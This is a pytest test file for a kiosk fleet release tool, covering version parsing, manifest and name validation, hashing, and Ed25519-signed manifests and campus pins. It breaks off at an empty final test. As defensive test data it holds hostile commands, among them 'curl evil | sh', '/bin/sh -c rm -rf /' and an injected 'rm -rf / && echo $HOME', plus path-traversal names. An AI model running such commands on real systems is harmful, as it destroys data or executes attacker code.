import base64
import copy
import errno
import hashlib
import json
import stat
import os
import re

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from hypothesis import given
from hypothesis import strategies as st

import fleet_client
import fleet_fetch
import fleet_inventory
import fleet_release
import fleet_repo
import fleet_sign
import fleet_state
from fleet_fetch import CHUNK
from fleet_release import ReleaseError


def raises(fn, *args, match=None, **kwargs):
    """Call ``fn`` expecting ReleaseError; return its message."""
    with pytest.raises(ReleaseError) as info:
        fn(*args, **kwargs)
    if match is not None:
        assert re.search(match, str(info.value)), str(info.value)
    return str(info.value)


def entry(data):
    return {"size": len(data), "md5": hashlib.md5(data).hexdigest(), "sha256": hashlib.sha256(data).hexdigest()}


APP = b"kiosk app payload\n" * 100
CONF = b"mode=kiosk\n"


@pytest.fixture
def manifest():
    return fleet_release.build_manifest(
        "kiosk-ui",
        "1.4.0",
        {"app.zip": entry(APP), "kiosk.conf": entry(CONF)},
        install=["/usr/bin/unzip", "-o", "{dir}/app.zip", "-d", "/opt/{name}/{version}"],
        created_at="2026-11-22T08:00:00+00:00",
    )


# --------------------------------------------------------------------------- versions


def test_versions_compare_numerically_and_are_padded():
    assert fleet_release.parse_version("1.10") > fleet_release.parse_version("1.9")
    assert fleet_release.parse_version("1.4") == fleet_release.parse_version("1.4.0") == (1, 4, 0, 0)
    assert fleet_release.parse_version("2026.11.22") == (2026, 11, 22, 0)
    assert fleet_release.parse_version("1.2.3.4") == (1, 2, 3, 4)
    assert fleet_release.sort_versions(["1.10", "1.9", "1.2.3", "2", "1.9.1", "0.0.1"]) == [
        "0.0.1", "1.2.3", "1.9", "1.9.1", "1.10", "2"]


def test_yaml_ints_are_versions_floats_are_refused():
    # version=2 on the salt CLI arrives as an int; version=1.10 as the float 1.1, which is ambiguous
    assert fleet_release.parse_version(2) == (2, 0, 0, 0)
    assert fleet_release.check_version(2) == "2"
    for number in (1.4, 1.10, 2026.10):
        message = raises(fleet_release.check_version, number)
        assert message.startswith(f"version: {number!r} arrived as a number") and "quote it" in message


@pytest.mark.parametrize(
    "bad",
    ["", "1.", ".1", "1..2", "1.2.3.4.5", "v1.2", "1.2a", "-1", " 1.2", "1.2 ", "1,2", "1e3", "1234567890",
     "1/2", "../1", None, True, False, [1, 2], -1, 1e20, float("nan"), {"v": 1}],
)
def test_bad_version_is_refused_naming_the_field(bad):
    message = raises(fleet_release.parse_version, bad, "manifest.version")
    if isinstance(bad, float):
        assert message.startswith(f"manifest.version: {bad!r} arrived as a number")
    else:
        shown = str(bad) if isinstance(bad, int) and not isinstance(bad, bool) else bad  # YAML ints as text
        assert message.startswith(f"manifest.version: {shown!r} is not a version")
    assert raises(fleet_release.check_version, bad).startswith("version: ")


@given(st.lists(st.integers(0, 10**9 - 1), min_size=1, max_size=4), st.lists(st.integers(0, 10**9 - 1), min_size=1, max_size=4))
def test_version_order_is_the_order_of_the_padded_number_tuples(a, b):
    va, vb = ".".join(map(str, a)), ".".join(map(str, b))
    pa, pb = tuple(a) + (0,) * (4 - len(a)), tuple(b) + (0,) * (4 - len(b))
    assert fleet_release.parse_version(va) == pa
    assert (fleet_release.parse_version(va) < fleet_release.parse_version(vb)) == (pa < pb)
    assert (fleet_release.parse_version(va) == fleet_release.parse_version(vb)) == (pa == pb)


def test_next_version():
    assert fleet_release.next_version(["1.4.0"]) == "1.4.1"
    assert fleet_release.next_version(["1.9", "1.10", "1.2"]) == "1.11"
    assert fleet_release.next_version(["2026.11.3", "2026.11.22"]) == "2026.11.23"
    raises(fleet_release.next_version, [], match="^versions: ")


@given(st.lists(st.lists(st.integers(0, 10**9 - 2), min_size=1, max_size=4).map(lambda p: ".".join(map(str, p))),
                min_size=1, max_size=6))
def test_next_version_is_above_every_version(versions):
    nxt = fleet_release.next_version(versions)
    assert all(fleet_release.parse_version(nxt) > fleet_release.parse_version(v) for v in versions)


def test_next_version_of_a_maximal_last_part_is_still_a_version():
    # regression: 1.999999999 once gave "1.1000000000", which parse_version refuses (10 digits)
    nxt = fleet_release.next_version(["1.999999999"])
    fleet_release.check_version(nxt)
    assert fleet_release.parse_version(nxt) > fleet_release.parse_version("1.999999999")


# --------------------------------------------------------------------------- names


@pytest.mark.parametrize("good", ["app", "kiosk-ui", "kiosk_ui.2", "A1", "x" * 63])
def test_good_release_names(good):
    assert fleet_release.check_name(good) == good


@pytest.mark.parametrize("bad", ["../x", "a/b", ".hidden", "..", "", "a b", "-x", "x" * 64, "a\\b", "é", None, 5])
def test_bad_release_names_are_refused(bad):
    assert raises(fleet_release.check_name, bad, "release.name").startswith(f"release.name: {bad!r}")


@pytest.mark.parametrize("good", ["app.zip", "kiosk-ui_1.2+build.tar.gz", "A", "x" * 128, "a..b"])
def test_good_file_names(good):
    assert fleet_release.check_file_name(good, "files") == good


@pytest.mark.parametrize(
    "bad", ["../x", "a/b", "/etc/passwd", ".hidden", ".", "..", "", "a\\b", "x" * 129, "a b", "a\x00b", None, 7]
)
def test_path_traversal_and_hidden_file_names_are_refused(bad):
    message = raises(fleet_release.check_file_name, bad, "manifest.files")
    assert message.startswith(f"manifest.files: {bad!r} is not a plain file name")


@given(st.text(max_size=20))
def test_an_accepted_file_name_is_one_plain_path_component(name):
    try:
        fleet_release.check_file_name(name, "f")
    except ReleaseError:
        return
    assert "/" not in name and "\\" not in name and "\x00" not in name
    assert not name.startswith(".") and os.path.basename(name) == name


@pytest.mark.parametrize(
    "check, value",
    [
        (lambda v: fleet_release.check_name(v), "app\n"),
        (lambda v: fleet_release.check_version(v), "1.4\n"),
        (lambda v: fleet_release.check_file_name(v, "f"), "app.zip\n"),
    ],
    ids=["name", "version", "file_name"],
)
def test_a_trailing_newline_is_refused(check, value):
    # regression: patterns ending in "$" also matched before a final "\n" (now "\Z")
    with pytest.raises(ReleaseError):
        check(value)


def test_a_hex_digest_with_a_trailing_newline_is_refused(manifest):
    manifest["files"]["app.zip"]["md5"] += "\n"
    raises(fleet_release.validate_manifest, manifest, match=r"manifest\.files\.app\.zip\.md5")


# --------------------------------------------------------------------------- hashing


@pytest.mark.parametrize("size", [0, 1, CHUNK - 1, CHUNK, CHUNK + 1, 3 * CHUNK + 5])
def test_hash_file_matches_hashlib_and_copies_identical_bytes(tmp_path, size):
    data = os.urandom(size)
    src, dst = tmp_path / "src.bin", tmp_path / "dst.bin"
    src.write_bytes(data)
    assert fleet_fetch.hash_file(str(src)) == entry(data)
    assert fleet_fetch.hash_file(str(src), copy_to=str(dst)) == entry(data)
    assert dst.read_bytes() == data


@given(st.binary(max_size=3000), st.integers(1, 700))
def test_hash_file_with_any_chunk_size(tmp_path_factory, data, chunk):
    path = tmp_path_factory.mktemp("h") / "f"
    path.write_bytes(data)
    assert fleet_fetch.hash_file(str(path), chunk=chunk) == entry(data)


def test_digest_fed_chunk_by_chunk():
    digest = fleet_fetch.Digest()
    for part in (b"", b"abc", b"x" * 1000):
        digest.update(part)
    assert digest.result() == entry(b"abc" + b"x" * 1000)


@pytest.mark.parametrize("key", ["size", "md5", "sha256"])
def test_compare_names_what_differs(key):
    expected = entry(APP)
    actual = dict(expected, **{key: entry(CONF)[key]})
    message = raises(fleet_release.compare, expected, actual, "files.app.zip")
    assert message.startswith(f"files.app.zip: {key} mismatch (expected {expected[key]}, got {actual[key]})")
    fleet_release.compare(expected, dict(expected), "files.app.zip")  # equal: no error


def test_compare_names_the_first_difference():
    assert "size mismatch" in raises(fleet_release.compare, entry(APP), entry(CONF), "f")
    both = dict(entry(APP), sha256="0" * 64, md5="0" * 32)
    assert "md5 mismatch" in raises(fleet_release.compare, entry(APP), both, "f")


# --------------------------------------------------------------------------- manifest


def test_built_manifest(manifest):
    assert manifest["format"] == fleet_release.FORMAT
    assert manifest["name"] == "kiosk-ui" and manifest["version"] == "1.4.0"
    assert manifest["rollback_of"] is None
    assert fleet_release.manifest_size(manifest) == len(APP) + len(CONF)
    assert fleet_release.validate_manifest(json.loads(json.dumps(manifest)), "kiosk-ui", "1.4.0") == manifest


def test_build_manifest_takes_yaml_ints_and_stamps_the_time():
    doc = fleet_release.build_manifest("app", "1.4", {"a": entry(b"")})
    assert doc["version"] == "1.4" and doc["install"] == [] and doc["success_codes"] == [0]
    assert fleet_release.build_manifest("app", "1.4", {"a": entry(b"")}, success_codes=[3010, 0, 0])[
        "success_codes"] == [0, 3010]
    with pytest.raises(fleet_release.ReleaseError, match="success_codes"):
        fleet_release.build_manifest("app", "1.4", {"a": entry(b"")}, success_codes=["0"])
    with pytest.raises(fleet_release.ReleaseError, match="^version: 1.4 arrived as a number"):
        fleet_release.build_manifest("app", 1.4, {"a": entry(b"")})
    assert fleet_release.build_manifest("app", 2, {"a": entry(b"")}, rollback_of="1.0")["version"] == "2"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", doc["created_at"])


def test_build_manifest_refuses_a_shell_string():
    message = raises(fleet_release.build_manifest, "app", "1.0", {"a": entry(b"")}, install="unzip a.zip && ./run.sh")
    assert message.startswith("install: ") and "no shell" in message


@pytest.mark.parametrize(
    "mutate, field, words",
    [
        (lambda d: d["files"]["app.zip"].update(md5="xyz"), "manifest.files.app.zip.md5", "lowercase hex md5"),
        (lambda d: d["files"]["app.zip"].update(md5=d["files"]["app.zip"]["md5"].upper()), "manifest.files.app.zip.md5", "lowercase"),
        (lambda d: d["files"]["app.zip"].update(md5=None), "manifest.files.app.zip.md5", "md5"),
        (lambda d: d["files"]["app.zip"].update(sha256="a" * 63), "manifest.files.app.zip.sha256", "sha256"),
        (lambda d: d["files"]["kiosk.conf"].update(sha256="g" * 64), "manifest.files.kiosk.conf.sha256", "sha256"),
        (lambda d: d["files"]["app.zip"].update(size=-1), "manifest.files.app.zip.size", "byte count"),
        (lambda d: d["files"]["app.zip"].update(size="12"), "manifest.files.app.zip.size", "byte count"),
        (lambda d: d["files"]["app.zip"].update(size=True), "manifest.files.app.zip.size", "byte count"),
        (lambda d: d["files"]["app.zip"].update(size=1.5), "manifest.files.app.zip.size", "byte count"),
        (lambda d: d["files"]["app.zip"].pop("size"), "manifest.files.app.zip.size", "byte count"),
        (lambda d: d["files"].update({"app.zip": "d41d8cd98f00b204e9800998ecf8427e"}), "manifest.files.app.zip", "expected size"),
        (lambda d: d["files"].update({"../evil": entry(b"")}), "manifest.files.../evil", "plain file name"),
        (lambda d: d["files"].update({".hidden": entry(b"")}), "manifest.files..hidden", "plain file name"),
        (lambda d: d.update(files={}), "manifest.files", "at least one file"),
        (lambda d: d.update(files=["app.zip"]), "manifest.files", "at least one file"),
        (lambda d: d.update(install="/bin/sh -c 'rm -rf /'"), "manifest.install", "no shell"),
        (lambda d: d.update(install=["unzip", ""]), "manifest.install", "non-empty strings"),
        (lambda d: d.update(install=["unzip", 3]), "manifest.install", "non-empty strings"),
        (lambda d: d.update(install={"cmd": "unzip"}), "manifest.install", "non-empty strings"),
        (lambda d: d.update(format=2), "manifest.format", "is not 1"),
        (lambda d: d.pop("format"), "manifest.format", "is not 1"),
        (lambda d: d.update(name="../kiosk-ui"), "manifest.name", "not a valid release name"),
        (lambda d: d.update(version="1.4.x"), "manifest.version", "not a version"),
        (lambda d: d.pop("version"), "manifest.version", "not a version"),
        (lambda d: d.update(created_at=None), "manifest.created_at", "timestamp"),
        (lambda d: d.update(rollback_of="previous"), "manifest.rollback_of", "not a version"),
    ],
)
def test_every_bad_manifest_field_is_named(manifest, mutate, field, words):
    mutate(manifest)
    with pytest.raises(ReleaseError) as info:
        fleet_release.validate_manifest(manifest)
    hits = [e for e in info.value.errors if e.startswith(field + ":")]
    assert hits and words in hits[0], info.value.errors


def test_every_manifest_problem_is_reported_at_once(manifest):
    manifest["version"] = "one"
    manifest["files"]["app.zip"]["md5"] = "XYZ"
    manifest["files"]["kiosk.conf"]["size"] = -5
    manifest["install"] = "make install"
    with pytest.raises(ReleaseError) as info:
        fleet_release.validate_manifest(manifest)
    fields = sorted(e.split(":")[0] for e in info.value.errors)
    assert fields == ["manifest.files.app.zip.md5", "manifest.files.kiosk.conf.size", "manifest.install", "manifest.version"]


def test_manifest_must_be_the_release_asked_for(manifest):
    message = raises(fleet_release.validate_manifest, manifest, "other-app", "1.4.0")
    assert message.startswith("manifest.name: 'kiosk-ui' is not the release asked for ('other-app')")
    message = raises(fleet_release.validate_manifest, manifest, "kiosk-ui", "1.5")
    assert message.startswith("manifest.version: '1.4.0' is not the version asked for ('1.5')")
    assert fleet_release.validate_manifest(manifest, "kiosk-ui", "1.4.0") is manifest


def test_manifest_must_be_an_object():
    assert raises(fleet_release.validate_manifest, ["files"]).startswith("manifest: expected a JSON object, got list")


# --------------------------------------------------------------------------- install command


def test_install_argv_fills_placeholders_argument_by_argument(manifest):
    manifest["install"] = [
        "{dir}/install.sh",
        "--from={dir}:{dir}",
        "{name}-{version}",
        "{not_a_placeholder}",
        "{}",
        "{DIR}",
        "{ dir }",
        "a b; rm -rf / && echo $HOME",
    ]
    pkg_dir = "/var/cache/kiosk release/kiosk-ui/1.4.0"
    assert fleet_release.install_argv(manifest, pkg_dir) == [
        f"{pkg_dir}/install.sh",
        f"--from={pkg_dir}:{pkg_dir}",
        "kiosk-ui-1.4.0",
        "{not_a_placeholder}",
        "{}",
        "{DIR}",
        "{ dir }",
        "a b; rm -rf / && echo $HOME",
    ]
    manifest["install"] = []
    assert fleet_release.install_argv(manifest, pkg_dir) == []


ARG = st.lists(st.sampled_from(list("ab {}/;$' \"") + ["{dir}", "{name}", "{version}", "dir"]), max_size=8).map("".join)


def reference_argv(doc, package_dir):
    values = {"dir": str(package_dir), "name": doc["name"], "version": doc["version"]}
    return [re.sub(r"\{(dir|name|version)\}", lambda m: values[m.group(1)], a) for a in doc["install"]]


@given(st.lists(ARG.filter(bool), max_size=6), st.text(alphabet=st.characters(blacklist_characters="{"), max_size=15))
def test_install_argv_never_splits_or_joins_arguments(args, package_dir):
    doc = {"name": "kiosk-ui", "version": "1.4.0", "install": args}
    argv = fleet_release.install_argv(doc, package_dir)
    assert isinstance(argv, list) and len(argv) == len(args)
    assert argv == reference_argv(doc, package_dir)


def test_install_argv_substitutes_in_one_pass():
    # regression: placeholders were replaced one after the other, so a value holding a
    # placeholder was substituted again ("/srv/{version}" became "/srv/1.4.0"); now one pass
    doc = {"name": "kiosk-ui", "version": "1.4.0", "install": ["{dir}/install.sh"]}
    assert fleet_release.install_argv(doc, "/srv/{version}") == ["/srv/{version}/install.sh"]


# --------------------------------------------------------------------------- signatures


def pem_private(key):
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())


def pem_public(key):
    return key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


@pytest.fixture(scope="module")
def keys():
    key = ed25519.Ed25519PrivateKey.generate()
    other = ed25519.Ed25519PrivateKey.generate()
    return {"private": pem_private(key).decode(), "public": pem_public(key),
            "other_private": pem_private(other), "other_public": pem_public(other),
            "ec_private": pem_private(ec.generate_private_key(ec.SECP256R1())),
            "ec_public": pem_public(ec.generate_private_key(ec.SECP256R1()))}


def refused(fn, *args, match=None, **kwargs):
    """Call ``fn`` expecting SignatureError (a ReleaseError, a ValueError); return its message."""
    with pytest.raises(fleet_release.SignatureError) as info:
        fn(*args, **kwargs)
    assert isinstance(info.value, ReleaseError) and isinstance(info.value, ValueError)
    if match is not None:
        assert re.search(match, str(info.value)), str(info.value)
    return str(info.value)


def test_signed_manifest_verifies_after_a_round_trip_through_json(manifest, keys):
    signed = fleet_sign.sign_manifest(manifest, keys["private"])
    assert "signature" not in manifest  # the input is not modified
    assert signed["signature"]["alg"] == "ed25519"
    assert len(base64.b64decode(signed["signature"]["value"])) == 64
    on_disk = json.loads(json.dumps(signed, indent=1))
    assert fleet_sign.verify(on_disk, [keys["public"]], "manifest") is on_disk
    fleet_sign.verify(on_disk, keys["public"].decode(), "manifest")  # one PEM, as str
    fleet_sign.verify(on_disk, fleet_sign.verify_keys([keys["public"]]), "manifest")  # loaded keys
    fleet_release.validate_manifest(on_disk, "kiosk-ui", "1.4.0")
    # re-signing a signed manifest signs the same body
    assert fleet_sign.sign_manifest(signed, keys["private"])["signature"] == signed["signature"]


def test_rotation_any_key_of_the_list_verifies(manifest, keys):
    signed = fleet_sign.sign(manifest, keys["private"])
    # old and new key both in pillar during a rotation, in either order
    fleet_sign.verify(signed, [keys["other_public"], keys["public"]], "manifest")
    fleet_sign.verify(signed, [keys["public"].decode(), keys["other_public"].decode()], "manifest")
    by_other = fleet_sign.sign(manifest, keys["other_private"])
    fleet_sign.verify(by_other, [keys["other_public"], keys["public"]], "manifest")
    # the retired key dropped from the list: its signatures no longer verify
    refused(fleet_sign.verify, by_other, [keys["public"]], "manifest", match=r"^manifest\.signature: does not match")


@pytest.mark.parametrize(
    "tamper",
    [
        lambda d: d["files"]["app.zip"].update(sha256="0" * 64),
        lambda d: d["files"]["app.zip"].update(size=d["files"]["app.zip"]["size"] + 1),
        lambda d: d["files"].update({"extra.sh": entry(b"#!/bin/sh\n")}),
        lambda d: d.update(install=["/bin/sh", "-c", "curl evil | sh"]),
        lambda d: d.update(version="1.4.1"),
        lambda d: d.update(rollback_of="1.3"),
        lambda d: d.update(extra_field=True),
    ],
)
def test_a_tampered_manifest_fails_verification(manifest, keys, tamper):
    signed = fleet_sign.sign_manifest(manifest, keys["private"])
    tampered = copy.deepcopy(signed)
    tamper(tampered)
    refused(fleet_sign.verify, tampered, [keys["public"]], "manifest", match=r"^manifest\.signature: does not match")


def test_another_key_fails_verification(manifest, keys):
    signed = fleet_sign.sign_manifest(manifest, keys["private"])
    refused(fleet_sign.verify, signed, [keys["other_public"]], "manifest", match=r"^manifest\.signature: does not match")
    refused(fleet_sign.verify_signature, signed, keys["other_public"], match=r"^manifest\.signature: does not match")


@pytest.mark.parametrize(
    "signature",
    [None, "abc", {"alg": "rsa", "value": "AAAA"}, {"alg": "ed25519"}, {"alg": "ed25519", "value": 5}],
)
def test_a_missing_signature_is_refused(manifest, keys, signature):
    if signature is not None:
        manifest["signature"] = signature
    refused(fleet_sign.verify, manifest, [keys["public"]], "manifest", match=r"^manifest\.signature: missing")


@pytest.mark.parametrize("value, match", [("not base64 !!", "not base64"),
                                          (base64.b64encode(b"short").decode(), "does not match"),
                                          ("", "does not match")])
def test_a_garbage_signature_value_is_refused(manifest, keys, value, match):
    manifest["signature"] = {"alg": "ed25519", "value": value}
    refused(fleet_sign.verify, manifest, [keys["public"]], "index.pin", match=rf"^index\.pin\.signature: {match}")


@pytest.mark.parametrize("doc", [None, [], "signed", 5])
def test_a_document_that_is_no_object_is_refused(keys, doc):
    refused(fleet_sign.verify, doc, [keys["public"]], "manifest", match=r"^manifest: expected a signed JSON object")


@pytest.mark.parametrize("value", [None, "", []])
def test_no_verify_key_refuses_to_work_unsigned(manifest, keys, value):
    signed = fleet_sign.sign_manifest(manifest, keys["private"])
    message = refused(fleet_sign.verify, signed, value, "manifest", match=r"^kiosk_release:verify_key: missing from pillar")
    assert "refusing to work unsigned" in message
    refused(fleet_sign.verify_keys, value, match=r"^kiosk_release:verify_key: missing from pillar")


@pytest.mark.parametrize(
    "value, match",
    [
        (5, r"^kiosk_release:verify_key: expected a PEM public key or a list of them, got int"),
        ({"key": "x"}, r"^kiosk_release:verify_key: expected a PEM public key or a list of them, got dict"),
        ("junk", r"^kiosk_release:verify_key: not a PEM public key"),
        (["junk"], r"^kiosk_release:verify_key\[0\]: not a PEM public key"),
        ([None], r"^kiosk_release:verify_key\[0\]: expected a PEM public key, got NoneType"),
        ("EC", r"^kiosk_release:verify_key: expected an Ed25519 public key"),
        ("PRIVATE", r"^kiosk_release:verify_key: not a PEM public key"),
    ],
)
def test_garbage_verify_keys_are_refused_naming_the_field(manifest, keys, value, match):
    value = {"EC": keys["ec_public"], "PRIVATE": keys["private"]}.get(value, value) if isinstance(value, str) else value
    signed = fleet_sign.sign_manifest(manifest, keys["private"])
    refused(fleet_sign.verify, signed, value, "manifest", match=match)
    # a good key next to a bad one is no excuse: the whole setting is refused
    refused(fleet_sign.verify_keys, [keys["public"], 5], match=r"^kiosk_release:verify_key\[1\]: expected a PEM")


def test_only_ed25519_signing_keys_are_accepted(manifest, keys):
    refused(fleet_sign.sign_manifest, manifest, keys["ec_private"],
            match=r"^kiosk_release\.signing_key: expected an Ed25519 private key")
    message = refused(fleet_sign.sign, manifest, "not a key", match=r"^kiosk_release\.signing_key: not a PEM private key")
    assert "not a key" not in message  # never echo what was given (it could be key material)
    refused(fleet_sign.sign, manifest, None, match=r"^kiosk_release\.signing_key: expected an Ed25519 private key in PEM")


# --------------------------------------------------------------------------- the signed campus pin

NOW = 1_800_000_000


def signed_pin(keys, version="1.4.0", serial=NOW, campus="east", name="kiosk-ui", signed_at=NOW, key="private"):
    return fleet_sign.sign_pin(name, campus, version, serial, keys[key], signed_at=signed_at)


def test_a_signed_pin_verifies_for_its_campus_and_release(keys):
    pin = signed_pin(keys)
    assert set(pin) == {"kind", "name", "campus", "version", "serial", "signed_at", "signature"}
    assert (pin["kind"], pin["campus"], pin["serial"]) == ("pin", "east", NOW)
    on_disk = json.loads(json.dumps(pin))
    assert fleet_sign.verify_pin(on_disk, [keys["public"]], "kiosk-ui", "east") == pin
    # from the CLI: the pin as JSON text
    assert fleet_sign.verify_pin(json.dumps(pin), [keys["public"]], "kiosk-ui", "east") == pin
    frozen = signed_pin(keys, version=None)
    assert fleet_sign.verify_pin(frozen, [keys["public"]], "kiosk-ui", "east")["version"] is None
    # signed_at defaults to the clock
    fresh = fleet_sign.sign_pin("kiosk-ui", "east", "1.4.0", 7, keys["private"])
    assert abs(fresh["signed_at"] - fleet_release.time.time()) < 60


def test_a_pin_for_another_campus_or_release_is_refused(keys):
    pin = signed_pin(keys, campus="west")
    refused(fleet_sign.verify_pin, pin, [keys["public"]], "kiosk-ui", "east",
            match=r"^pin\.campus: 'west' is not this minion's campus 'east'")
    refused(fleet_sign.verify_pin, signed_pin(keys), [keys["public"]], "kiosk-app", "east",
            match=r"^pin\.name: 'kiosk-ui' is not release 'kiosk-app'")


def test_a_serial_more_than_a_day_ahead_of_its_signing_time_is_refused(keys):
    day = fleet_sign.MAX_SERIAL_AHEAD
    assert day == 86400
    assert fleet_sign.verify_pin(signed_pin(keys, serial=NOW + day), [keys["public"]], "kiosk-ui", "east")
    refused(fleet_sign.verify_pin, signed_pin(keys, serial=NOW + day + 1), [keys["public"]], "kiosk-ui", "east",
            match=rf"^pin\.serial: {NOW + day + 1} is more than 86400 s ahead of its signing time {NOW}")
    refused(fleet_sign.verify_pin, signed_pin(keys, serial=10**15), [keys["public"]], "kiosk-ui", "east",
            match=r"^pin\.serial: 1000000000000000 is more than")


@pytest.mark.parametrize(
    "tamper",
    [
        lambda p: p.update(serial=10**15),  # the frozen-kiosk forgery
        lambda p: p.update(version="1.3.0"),
        lambda p: p.update(campus="west"),
        lambda p: p.update(signed_at=p["signed_at"] + 10**9),
        lambda p: p.update(version=None),
    ],
)
def test_a_tampered_pin_is_refused(keys, tamper):
    pin = signed_pin(keys)
    tamper(pin)
    refused(fleet_sign.verify_pin, pin, [keys["public"]], "kiosk-ui", pin["campus"],
            match=r"^pin\.signature: does not match")


def test_a_pin_by_another_key_or_unsigned_is_refused(keys):
    refused(fleet_sign.verify_pin, signed_pin(keys, key="other_private"), [keys["public"]], "kiosk-ui", "east",
            match=r"^pin\.signature: does not match")
    bare = fleet_release.build_pin("kiosk-ui", "east", "1.4.0", 10**15, signed_at=NOW)
    refused(fleet_sign.verify_pin, bare, [keys["public"]], "kiosk-ui", "east", match=r"^pin\.signature: missing")
    refused(fleet_sign.verify_pin, {"version": "1.4.0", "serial": 10**15}, [keys["public"]], "kiosk-ui", "east",
            match=r"^pin\.signature: missing")
    refused(fleet_sign.verify_pin, signed_pin(keys), None, "kiosk-ui", "east",
            match=r"^kiosk_release:verify_key: missing from pillar")
    for garbage in ("{not json", 5, ["pin"]):
        refused(fleet_sign.verify_pin, garbage, [keys["public"]], "kiosk-ui", "east", match=r"^pin: ")


def test_a_signed_manifest_is_no_pin(manifest, keys):
    # same key, other kind of document: a signature never moves from one to the other
    doc = fleet_sign.sign_manifest(dict(manifest, campus="east", serial=NOW, signed_at=NOW), keys["private"])
    refused(fleet_sign.verify_pin, doc, [keys["public"]], "kiosk-ui", "east", match=r"^pin\.kind: None is not a pin")


@pytest.mark.parametrize(
    "kwargs, match",
    [
        ({"serial": -1}, r"^pin\.serial: "), ({"serial": "x"}, r"^pin\.serial: "), ({"serial": 2.5}, r"^pin\.serial: "),
        ({"serial": True}, r"^pin\.serial: "), ({"campus": "../x"}, r"^pin\.campus: "), ({"name": ""}, r"^pin\.name: "),
        ({"version": 1.1}, r"^pin\.version: "), ({"signed_at": -5}, r"^pin\.signed_at: "),
    ],
)
def test_build_pin_refuses_bad_fields(kwargs, match):
    args = {"name": "kiosk-ui", "campus": "east", "version": "1.4.0", "serial": 1, "signed_at": NOW, **kwargs}
    raises(fleet_release.build_pin, args.pop("name"), args.pop("campus"), args.pop("version"), args.pop("serial"),
           match=match, **args)


# --------------------------------------------------------------------------- repository index


@pytest.fixture
def index(manifest):
    idx = fleet_release.index_add(fleet_release.new_index("kiosk-ui"), manifest)
    return fleet_release.index_add(idx, dict(manifest, version="1.3.0", rollback_of=None))


def test_new_index_and_add(manifest):
    empty = fleet_release.new_index("kiosk-ui")
    assert empty == {"format": 1, "name": "kiosk-ui", "versions": {}, "pin": None}
    raises(fleet_release.new_index, "../x", match="^name: ")
    idx = fleet_release.index_add(empty, manifest)
    assert empty["versions"] == {}  # a new dict, the old one untouched
    entry_ = idx["versions"]["1.4.0"]
    assert entry_["size"] == len(APP) + len(CONF)
    assert entry_["created_at"] == manifest["created_at"] and entry_["rollback_of"] is None
    assert fleet_release.validate_index(idx, "kiosk-ui") is idx


def test_pin_a_staged_version_and_only_forward(index, keys):
    pinned = fleet_release.index_pin(index, signed_pin(keys, "1.4.0", 3))
    assert index["pin"] is None  # a new dict
    assert pinned["pin"] == signed_pin(keys, "1.4.0", 3)  # stored as signed: kiosks verify it again
    assert fleet_sign.verify_index(pinned, "kiosk-ui", [keys["public"]], "east") is pinned
    assert fleet_release.index_pin(pinned, signed_pin(keys, "1.3.0", 3))["pin"]["version"] == "1.3.0"  # replayed
    assert fleet_release.index_pin(pinned, signed_pin(keys, "1.3.0", 4))["pin"]["serial"] == 4
    message = raises(fleet_release.index_pin, pinned, signed_pin(keys, "1.3.0", 2))
    assert message.startswith("serial: 2 is older than this repository's pin serial 3")


def test_an_index_stores_signed_pins_only(index, keys):
    bare = fleet_release.build_pin("kiosk-ui", "east", "1.4.0", 3, signed_at=NOW)
    refused(fleet_release.index_pin, index, bare, match=r"^pin\.signature: missing")
    refused(fleet_release.index_pin, index, None, match=r"^pin\.signature: missing")


def test_pin_an_unknown_version_is_refused_naming_what_is_staged(index, keys):
    message = raises(fleet_release.index_pin, index, signed_pin(keys, "1.5.0", 1))
    assert message == "version: 1.5.0 is not staged here (staged: 1.3.0, 1.4.0)"
    assert "staged: none" in raises(fleet_release.index_pin, fleet_release.new_index("x"), signed_pin(keys, "1.0", 1))


def test_pin_to_none_freezes_the_campus(index, keys):
    frozen = fleet_release.index_pin(fleet_release.index_pin(index, signed_pin(keys, "1.4.0", 1)),
                                     signed_pin(keys, None, 2))
    assert frozen["pin"]["version"] is None and frozen["pin"]["serial"] == 2
    assert fleet_sign.verify_index(frozen, "kiosk-ui", [keys["public"]], "east") is frozen


@pytest.mark.parametrize("serial", [-1, "x", None, True, [], "1.5", 2.5])
def test_bad_pin_serial_is_refused(index, keys, serial):
    pin = dict(signed_pin(keys), serial=serial)  # the index never sees such a pin verified; still refused
    assert raises(fleet_release.index_pin, index, pin).startswith("pin.serial: ")


def test_verify_index_checks_the_pin_with_the_same_function(index, keys):
    assert fleet_sign.verify_index(index, "kiosk-ui", [keys["public"]], "east") is index  # no pin yet
    forged = dict(index, pin=dict(signed_pin(keys, "1.3.0"), serial=10**15))
    refused(fleet_sign.verify_index, forged, "kiosk-ui", [keys["public"]], "east",
            match=r"^index\.pin\.signature: does not match")
    other_key = dict(index, pin=signed_pin(keys, "1.3.0", 10**15, signed_at=10**15, key="other_private"))
    refused(fleet_sign.verify_index, other_key, "kiosk-ui", [keys["public"]], "east",
            match=r"^index\.pin\.signature: does not match")
    west = fleet_release.index_pin(index, signed_pin(keys, campus="west"))
    refused(fleet_sign.verify_index, west, "kiosk-ui", [keys["public"]], "east", match=r"^index\.pin\.campus: ")
    unsigned = dict(index, pin={"version": "1.3.0", "serial": 10**15, "pinned_at": "x"})
    refused(fleet_sign.verify_index, unsigned, "kiosk-ui", [keys["public"]], "east",
            match=r"^index\.pin\.signature: missing")


@pytest.mark.parametrize(
    "mutate, match",
    [
        (lambda i: i.update(name="other"), r"^index: not a repository index of release 'kiosk-ui'"),
        (lambda i: i.update(format=2), r"^index: not a repository index"),
        (lambda i: i.update(versions=["1.4.0"]), r"^index\.versions: expected a mapping"),
        (lambda i: i.update(pin={"version": "9.9", "serial": 1}), r"^index\.pin: .* does not name a staged version"),
        (lambda i: i.update(pin="1.4.0"), r"^index\.pin: "),
        (lambda i: i.update(pin={"version": "1.4.0", "serial": "1"}), r"^index\.pin\.serial: '1' is not a number"),
        (lambda i: i.update(pin={"version": "1.4.0", "serial": True}), r"^index\.pin\.serial: "),
        (lambda i: i.update(pin={"version": "1.4.0"}), r"^index\.pin\.serial: None"),
    ],
)
def test_validate_index_errors(index, mutate, match):
    mutate(index)
    raises(fleet_release.validate_index, index, "kiosk-ui", match=match)


def test_validate_index_refuses_non_objects():
